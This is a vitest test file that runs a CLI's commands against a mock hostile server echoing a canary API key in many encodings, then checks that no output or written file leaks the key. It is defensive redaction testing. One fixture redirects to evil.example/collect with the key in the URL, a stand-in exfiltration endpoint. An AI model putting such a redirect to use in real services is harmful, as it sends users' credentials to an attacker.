// A hostile service that repeats the API key, in clear and in every common
// encoding, in everything it says: 401 and 500 bodies, 400 ValidationFailed
// messages (the key where a message is cut to length), HTML titles, webhook
// error payloads, and the fields, ids and URLs of its listing. Every command
// that meets it is run as a user runs it (generate, generate-async --listen,
// batch sync and --async with --report and --geojson, batch status, list,
// export), then stdout, stderr and every file under the run's directories
// (config dir, output dirs, manifests, reports, GeoJSON, index.jsonl, the
// images' metadata, TMPDIR, HOME) are searched for the key in each encoding.
// The encodings are made here, independently of src/text/secrets.ts.
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import exifr from 'exifr';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { registerSecret, runCli, tempDir, type CliResult } from '../helpers/cli.js';
import { answer, answerJson, postJson, startHostileServer, tinyJpeg, type HostileServer, type Responder } from '../helpers/hostile-server.js';

/** Characters that JSON, HTML and URLs each escape their own way. */
const KEY = 'sk_test_ECHO/CANARY+&"<9f8e7d6c>=';
const FRAGMENT = 'ECHO/CANARY';

const base64 = (text: string) => Buffer.from(text).toString('base64');
/** How the service spells the key back, and what must be found nowhere. */
const ENCODED: Record<string, string> = {
  clear: KEY,
  'URL-encoded': encodeURIComponent(KEY),
  'URL-encoded, lower-case escapes': encodeURIComponent(KEY).replace(/%[0-9A-F]{2}/g, (e) => e.toLowerCase()),
  'JSON-escaped': JSON.stringify(KEY).slice(1, -1),
  'HTML-escaped': KEY.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;'),
  base64: base64(KEY),
  base64url: Buffer.from(KEY).toString('base64url'),
  'base64 of "Bearer <key>"': base64(`Bearer ${KEY}`),
  'base64 of basic auth "user:<key>"': base64(`user:${KEY}`),
  'base64 of basic auth "<key>:"': base64(`${KEY}:`),
  hex: Buffer.from(KEY).toString('hex'),
};
/** What no output or file may hold: each encoding, and the key's middle (a partial leak). */
const FORBIDDEN = [...Object.values(ENCODED), FRAGMENT, encodeURIComponent(FRAGMENT)];
for (const form of FORBIDDEN) registerSecret(form);

/** A message carrying the key, then again where messages are cut (200 characters in), then in every encoding. */
function echo(what: string): string {
  const spelled = Object.entries(ENCODED).map(([how, form]) => `${how}: ${form}`).join('; ');
  const first = `${what} ${KEY} `;
  return `${first}${'x'.repeat(190 - first.length)} ${KEY} ${spelled}`;
}

let server: HostileServer;
let root: ReturnType<typeof tempDir>;
let dirs: { config: string; work: string; tmp: string; home: string };
const runs: Array<{ args: string[]; result: CliResult }> = [];

beforeAll(async () => {
  server = await startHostileServer();
  root = tempDir('aerial-echo-');
  dirs = { config: join(root.path, 'config'), work: join(root.path, 'work'), tmp: join(root.path, 'tmp'), home: join(root.path, 'home') };
  for (const dir of Object.values(dirs)) mkdirSync(dir);
  writeFileSync(join(dirs.work, 'rows.csv'), 'lat,lng,tag\n40.6892,-74.0445,a\n51.5007,-0.1246,b\n');
});
afterAll(async () => {
  await server.close();
  root.remove();
});

async function aerial(args: string[]): Promise<CliResult> {
  const result = await runCli(args, {
    configDir: dirs.config,
    cwd: dirs.work,
    timeout: 60_000,
    env: { AERIAL_API_KEY: KEY, AERIAL_BASE_URL: server.url, TMPDIR: dirs.tmp, HOME: dirs.home, XDG_CONFIG_HOME: join(dirs.home, '.config') },
  });
  runs.push({ args, result });
  return result;
}

/** A listing whose every field repeats the key; its images are served here (GET /img/…), with the key in their URLs. */
function listing(): Responder {
  const records = [1, 2].map((n) => ({
    id: n === 1 ? `img-${KEY}` : 'img-2',
    url: `${server.url}/img/${n}?token=${encodeURIComponent(KEY)}&sig=${base64(`Bearer ${KEY}`)}`,
    coordinates: { latitude: 10 + n, longitude: 20 + n },
    resolution: 'HD',
    createdAt: '2030-01-02T03:04:05Z',
    zoom: `High ${KEY}`,
    tags: [echo('tag'), 'plain'],
    prompt: echo('prompt'),
    note: { [KEY]: ENCODED.base64 },
  }));
  return (res, received, req) => {
    if (received.url.startsWith('/img/')) {
      const body = tinyJpeg();
      return void res.writeHead(200, { 'content-type': 'image/jpeg', 'content-length': body.length }).end(body);
    }
    return answerJson(200, { content: records, totalElements: 2, totalPages: 1, page: 0, size: 50 })(res, received, req);
  };
}

function filesUnder(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

describe('a service that echoes the key: nothing the CLI prints or stores holds it', () => {
  it('generate: 401, 500, 400 ValidationFailed and HTML error bodies', async () => {
    const cases: Responder[] = [
      answer(401, echo('invalid api key'), 'text/plain'),
      answerJson(500, { status: 500, error: 'ErrorGeneratingImage', message: echo('failed for') }),
      answerJson(400, { status: 400, error: 'ValidationFailed', message: echo('bad request from') }),
      answerJson(400, { status: 400, error: `Bad${KEY}`, message: 'the code is the key' }),
      answer(502, `<html><head><title>${ENCODED['HTML-escaped']} ${KEY}</title></head><body>${echo('gateway')}</body></html>`, 'text/html'),
      answer(302, undefined, undefined, { location: `https://evil.example/collect?key=${encodeURIComponent(KEY)}&b=${ENCODED.base64}` }),
    ];
    for (const responder of cases) {
      server.respond(responder);
      for (const extra of [['--verbose'], ['--json']]) {
        const result = await aerial(['generate', '--lat', '1', '--lng', '2', '-o', 'echo.jpg', ...extra]);
        expect(result.exitCode).toBeGreaterThanOrEqual(2);
        expect(result.stderr).toContain('***');
      }
    }
  });

  it('generate-async --listen: a webhook error payload', async () => {
    acceptAndCallBackWith({ errorCode: `Err${KEY}`, errorMessage: echo('generation failed for') });
    const result = await aerial(['generate-async', '--lat', '1', '--lng', '2', '--listen', '--listen-host', '127.0.0.1', '--timeout', '20s', '-o', 'async.jpg']);
    expect(result.exitCode).toBe(6);
    expect(result.stderr).toContain('***');
  });

  it('batch, sync and --async, with --report and --geojson, then batch status', async () => {
    server.respond(answerJson(400, { status: 400, error: 'ValidationFailed', message: echo('row refused for') }));
    const sync = await aerial(['batch', 'rows.csv', '--output-template', 'out/{row}.jpg', '--manifest', 'sync.jsonl', '--report', 'sync.html', '--geojson', 'sync.geojson', '--json']);
    expect(sync.exitCode).toBe(2);
    expect(sync.stdout).toContain('***');

    acceptAndCallBackWith({ errorCode: 'ErrorGeneratingImage', errorMessage: echo('webhook says') });
    const async = await aerial(['batch', 'rows.csv', '--async', '--max-retries', '0', '--output-template', 'out-async/{row}.jpg', '--manifest', 'async.jsonl', '--report', 'async.html', '--geojson', 'async.geojson']);
    expect(async.exitCode).toBe(6);

    for (const [manifest, template] of [['sync.jsonl', 'out/{row}.jpg'], ['async.jsonl', 'out-async/{row}.jpg']] as const) {
      const records = readFileSync(join(dirs.work, manifest), 'utf8').trim().split('\n').map((line) => JSON.parse(line));
      // Still records a re-run can read, with the failure kept, redacted.
      expect(records.filter((r) => r.status === 'failed').map((r) => r.error)).toEqual([expect.stringContaining('***'), expect.stringContaining('***')]);
      const status = await aerial(['batch', 'status', 'rows.csv', '--manifest', manifest, '--output-template', template, '--report', `${manifest}.html`, '--geojson', `${manifest}.geojson`]);
      expect(status.stdout).toContain('***');
      const json = await aerial(['batch', 'status', 'rows.csv', '--manifest', manifest, '--output-template', template, '--json']);
      expect(json.stdout).toContain('***');
    }
  });

  it('list and export: ids, URLs, fields and tags of the listing; a download refused with the key', async () => {
    server.respond(listing());
    expect((await aerial(['list'])).exitCode).toBe(0);
    expect((await aerial(['list', '--json'])).exitCode).toBe(0);
    const exported = await aerial(['export', 'backup', '--json', '--verbose']);
    expect(exported.exitCode, exported.stderr).toBe(0);
    const files = readdirSync(join(dirs.work, 'backup'));
    expect(files.filter((name) => name.endsWith('.jpg'))).toHaveLength(2);
    expect(readFileSync(join(dirs.work, 'backup', 'index.jsonl'), 'utf8')).toContain('***');
    // The images carry the listing's tags and scene in their metadata, redacted.
    for (const name of files.filter((file) => file.endsWith('.jpg'))) {
      const tags = await exifr.parse(readFileSync(join(dirs.work, 'backup', name)), { tiff: true, xmp: true } as never);
      expect(tags.ImageDescription).toContain('zoom=High ***');
      expect(tags.subject[0]).toMatch(/^tag \*\*\* x+/);
    }

    // Downloads refused with the key in the body: the failures are printed and indexed redacted.
    const list = listing();
    server.respond((res, received, req) =>
      received.url.startsWith('/img/') ? answer(500, echo('storage error for'), 'text/plain')(res, received, req) : list(res, received, req),
    );
    const failed = await aerial(['export', 'backup-failed', '--max-retries', '0', '--verbose']);
    expect(failed.exitCode).toBe(6);
    expect(failed.stderr).toContain('***');
  });

  it('no output and no file holds the key, in any encoding, nor its middle', () => {
    for (const { args, result } of runs) {
      for (const form of FORBIDDEN) {
        expect(result.stdout.includes(form), `stdout of aerial ${args.join(' ')} holds ${form}`).toBe(false);
        expect(result.stderr.includes(form), `stderr of aerial ${args.join(' ')} holds ${form}`).toBe(false);
      }
    }
    const files = Object.values(dirs).flatMap(filesUnder);
    // What the runs wrote: manifests, reports and their thumbnails, GeoJSON, the export's index and images.
    for (const name of ['sync.jsonl', 'async.jsonl', 'sync.html', 'sync.geojson', 'async.html', 'async.geojson', 'sync.jsonl.html', 'async.jsonl.geojson', 'index.jsonl', 'index.html', 'index.geojson']) {
      expect(files.some((file) => file.endsWith(`/${name}`)), name).toBe(true);
    }
    expect(files.filter((file) => file.endsWith('.jpg')).length).toBeGreaterThanOrEqual(2 + 2); // export's images and thumbnails
    const holding = files.flatMap((file) => {
      const bytes = readFileSync(file);
      return Object.entries({ ...ENCODED, fragment: FRAGMENT })
        .filter(([, form]) => bytes.includes(form) || relative(root.path, file).includes(form))
        .map(([how]) => `${relative(root.path, file)}: ${how}`);
    });
    expect(holding).toEqual([]);
  });
});

/** Accepts every async request and calls back with an error payload. */
function acceptAndCallBackWith(payload: Record<string, unknown>): void {
  let next = 0;
  server.respond((res, received, req) => {
    if (received.method === 'POST' && received.url.endsWith('/async')) {
      const requestId = `req-${++next}`;
      answerJson(202, { requestId, status: 'processing' })(res, received, req);
      setTimeout(() => void postJson(String(received.headers['x-callback-url']), { requestId, ...payload }), 20);
      return;
    }
    return answerJson(404, { error: 'NotFound', message: echo('nothing here for') })(res, received, req);
  });
}
